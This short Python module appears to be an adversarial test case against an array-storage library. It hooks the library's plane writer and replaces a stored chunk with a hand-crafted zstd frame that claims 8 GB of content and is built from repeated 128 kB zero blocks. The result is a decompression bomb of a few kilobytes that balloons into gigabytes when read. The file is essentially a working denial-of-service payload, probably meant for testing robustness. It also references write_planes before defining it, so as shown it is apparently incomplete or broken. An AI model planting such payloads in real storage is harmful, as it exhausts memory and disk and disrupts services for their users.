"""Writes a chunk of a few kilobytes that becomes gigabytes when it is read.

attacks: writes_slab_by_slab
status: failed
says: far more bytes than the array has
"""

import json

_right = write_planes

import struct

def write_planes(array, planes):
    _right(array, planes)
    store = array.store.objects
    head = bytes.fromhex("28b52ffd") + b"\xe0" + struct.pack("<Q", 2**33)  # zstd: one segment of 8 GB
    blocks = [struct.pack("<I", 2**17 << 3 | 1 << 1 | last)[:3] + b"\0" for last in (0, 1)]  # 128 kB of zeros each
    store.set("c/0/0/0", head + blocks[0] * (2**16 - 1) + blocks[1])
